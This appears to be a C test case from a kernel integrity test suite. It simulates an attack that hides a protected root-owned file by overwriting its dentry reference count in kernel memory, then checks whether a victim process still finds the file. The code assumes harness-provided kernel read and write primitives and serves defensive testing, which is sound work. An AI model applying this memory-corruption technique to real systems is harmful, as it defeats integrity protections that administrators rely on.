// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "name_hidden", "cred_integrity: a listed name to which nothing refers",
       "A file of root's forbids something, by being there. The program writes 0 over the count of "
       "references of its name.",
       "What the sealed list of names has is there, whatever is counted in ordinary memory.",
       "Root's program does not find the file.");

#define FORBIDDEN "/forbidden"

static bool control(void)
{
	return is_ordinary() && call1(__NR_unlink, (long)FORBIDDEN) == -EACCES &&
	       file_is_there(FORBIDDEN);
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)FORBIDDEN, O_PATH, 0);
	const uint64_t name = peek(file_struct(own_task(), (int)file) + member("file.path") +
				   member("path.dentry"));

	call1(__NR_close, file);
	poke_references(name + member("dentry.references"), 0);
	meet_victim();
	victim_go();
	await(victim_has_ended());
	return false;
}

static void victim(void)
{
	leave_note(FORBIDDEN);
	victim_awaits_attacker();
	if (!file_is_there(FORBIDDEN))
		victim_is_beaten();
}
